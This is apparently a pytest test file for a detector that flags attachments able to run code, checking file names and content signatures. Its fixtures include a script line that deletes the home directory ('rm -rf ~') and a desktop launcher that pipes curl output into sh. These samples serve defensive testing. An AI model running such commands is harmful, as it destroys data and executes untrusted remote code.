"""Which attachments could run code when opened: judged by the name the system would use and,
separately, by the content, so a renamed program is still caught."""

from __future__ import annotations

import io
import zipfile

import pytest

from maturity.filetypes import extension, runnable

RUNNABLE_NAMES = ["setup.exe", "setup.msi", "run.bat", "run.cmd", "old.com", "saver.scr",
                  "tool.ps1", "macro.vbs", "invoice.js", "app.jar", "page.hta", "Budget.lnk",
                  "settings.reg", "doc.pif", "panel.cpl", "console.msc", "job.wsf",
                  "install.sh", "Viewer.app", "Viewer.dmg", "tool.py", "launch.desktop",
                  "minutes.docm", "figures.xlsm", "link.url", "disc.iso"]


@pytest.mark.parametrize("name", RUNNABLE_NAMES)
def test_a_program_or_script_is_recognised_by_its_name(name):
    risk = runnable(name, b"plain words, nothing that looks like a program")
    assert risk is not None and risk.by == "name" and risk.extension == extension(name)
    assert risk.reason() == f"its name ends in {extension(name)}"


@pytest.mark.parametrize("name", ["Minutes.EXE", "report.pdf.exe", "report.exe.", "report.exe  ",
                                  r"C:\Users\pat\Desktop\report.pdf.scr", "a/b/c.Ps1"])
def test_disguised_names_are_judged_as_the_system_would(name):
    assert runnable(name, b"") is not None


def windows_program() -> bytes:
    return b"MZ\x90\x00\x03" + bytes(60) + b"This program cannot be run in DOS mode."


def jar() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("META-INF/MANIFEST.MF", "Main-Class: Evil\n")
        z.writestr("Evil.class", b"\xca\xfe\xba\xbe")
    return out.getvalue()


def macro_document() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/vbaProject.bin", b"macros")
    return out.getvalue()


@pytest.mark.parametrize("data, kind", [
    (windows_program(), "a Windows program"),
    (b"\x7fELF\x02\x01\x01" + bytes(40), "a Linux program"),
    (b"\xcf\xfa\xed\xfe" + bytes(40), "a macOS program"),
    (b"#!/bin/sh\nrm -rf ~\n", "a script"),
    (b"\xef\xbb\xbf#!/usr/bin/env python3\n", "a script"),
    (b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(70), "a Windows shortcut"),
    (b"Windows Registry Editor Version 5.00\r\n[HKEY_CURRENT_USER\\x]", "a Windows registry file"),
    (b"[Desktop Entry]\nExec=sh -c 'curl x | sh'\n", "a Linux desktop launcher"),
    (b"<html><HTA:APPLICATION ID=x><script>x</script>", "an HTML application"),
    (jar(), "a Java program"),
    (macro_document(), "an Office file with macros"),
])
def test_a_program_renamed_as_a_document_is_caught_by_its_content(data, kind):
    risk = runnable("Board minutes March.pdf", data)
    assert risk is not None and risk.kind == kind and risk.by == "content"


def plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("word/document.xml", "<w:document/>")
    return out.getvalue()


@pytest.mark.parametrize("name, data", [
    ("Board paper.pdf", b"%PDF-1.7\n" + bytes(100)),
    ("chart.png", b"\x89PNG\r\n\x1a\n" + bytes(40)),
    ("figures.csv", b"month,waits\n2026-01,14\n"),
    ("report.docx", plain_zip()),
    ("notes.txt", b"Minutes: MZ and ELF teams met; #! is not at the start\n"),
    ("empty.pdf", b""),
    ("no extension", b"just text"),
])
def test_ordinary_documents_open_without_a_question(name, data):
    assert runnable(name, data) is None


@pytest.mark.parametrize("data", [
    b"PK\x03\x04" + bytes(30),                    # a ZIP header and nothing after it
    b"PK\x03\x04" + b"\xff" * 5000,               # garbage after the header
    plain_zip()[:-10],                            # a truncated archive
])
def test_a_damaged_archive_is_judged_without_an_error(data):
    assert runnable("archive.zip", data) is None
